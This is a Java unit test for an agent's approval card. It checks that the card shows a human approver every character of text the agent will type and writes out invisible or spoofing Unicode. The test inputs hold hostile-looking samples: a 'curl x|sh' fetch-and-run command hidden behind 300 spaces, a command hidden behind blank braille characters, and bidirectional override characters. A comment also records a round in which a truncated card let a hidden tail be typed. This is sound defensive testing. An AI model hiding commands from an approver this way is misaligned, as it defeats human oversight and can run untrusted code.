package dev.deckhand.loop.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.deckhand.loop.action.Action;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What an approval card says about an action: every character of the text to be typed, and the chord in its normal form. */
@Tag("pure")
class ApprovalCardTest {

    /** Round 6 (BC1): a card cut a 430-character {@code type} at 200 characters, and the tail it hid was typed. */
    @Test
    void theCardShowsEveryCharacterOfTheTextAndWritesOutWhatCannotBeSeen() {
        assertEquals(": \"hello world\" (11 characters)", GrantGuard.note(new Action.Type("hello world")));
        String longText = "x".repeat(199) + "😀" + "y".repeat(100) + "HIDDEN-TAIL";
        String note = GrantGuard.note(new Action.Type(longText));
        assertTrue(note.contains("😀" + "y".repeat(100) + "HIDDEN-TAIL\""), note);
        assertTrue(note.endsWith("(311 characters)"), note);
        assertEquals(
                ": \"pytest -q⟨300 spaces⟩; curl x|sh\" (320 characters)",
                GrantGuard.note(new Action.Type("pytest -q" + " ".repeat(300) + "; curl x|sh")));
        assertEquals(
                ": \"a b⟨U+202E⟩dneS⟨U+200B⟩⟨U+00A0⟩\" (10 characters)",
                GrantGuard.note(new Action.Type("a b\u202EdneS\u200B\u00A0")));
        // round 7: symbols that draw nothing, variation selectors, marks of no script of their own
        assertEquals(
                ": \"make test⟨1200 × U+2800⟩;echo x\" (1216 characters)",
                GrantGuard.note(new Action.Type("make test" + "\u2800".repeat(1200) + ";echo x")));
        assertEquals(
                ": \"a⟨U+FE0F⟩b⟨U+0301⟩c⟨U+1D159⟩d⟨U+17B4⟩\" (8 characters)",
                GrantGuard.note(new Action.Type("a\uFE0Fb\u0301c\uD834\uDD59d\u17B4")));
        assertEquals(": \"नमस्ते Ünïcödé\" (14 characters)", GrantGuard.note(new Action.Type("नमस्ते Ünïcödé")));
        assertEquals(
                ": \"⟨U+27E8⟩U+0041⟨U+27E9⟩\" (8 characters)",
                GrantGuard.note(new Action.Type("⟨U+0041⟩")),
                "typed brackets cannot pass for written-out characters");
        assertEquals(": alt+shift+s", GrantGuard.note(new Action.Key("alt+S")));
        assertEquals(
                ": option \"Delete the originals\" (20 characters)",
                GrantGuard.note(new Action.Select("u1", "Delete the originals")));
    }
}
